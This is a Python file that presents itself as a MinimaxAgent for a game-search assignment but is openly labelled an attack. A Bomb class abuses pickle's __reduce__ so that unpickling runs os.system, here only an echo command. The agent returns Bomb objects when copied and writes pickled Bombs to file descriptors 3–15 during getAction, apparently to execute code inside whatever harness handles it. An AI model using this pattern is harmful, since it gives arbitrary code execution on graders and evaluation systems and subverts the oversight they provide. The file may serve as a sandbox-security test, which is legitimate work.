# attack: is an agent that runs a program in whoever pickles, copies and unpickles it.
# where: MinimaxAgent
import os
import pickle

from shared.reflex import *
from shared.search import *


class Bomb:
    """Where it is unpickled, a shell says so."""

    def __reduce__(self):
        return os.system, ("echo BREACH: unpickled by somebody",)

    def __reduce_ex__(self, protocol):
        return self.__reduce__()

    def __getstate__(self):
        return {"bomb": self}


class MinimaxAgent(Bomb, MultiAgentSearchAgent):
    def __deepcopy__(self, memo):
        print("copied", flush=True)
        return Bomb()

    __copy__ = lambda self: Bomb()

    def getAction(self, gameState):
        self.bomb = Bomb()
        for fd in range(3, 16):
            try:
                os.write(fd, pickle.dumps(Bomb()) + b"\n")
            except OSError:
                pass
        return gameState.getLegalActions()[0]
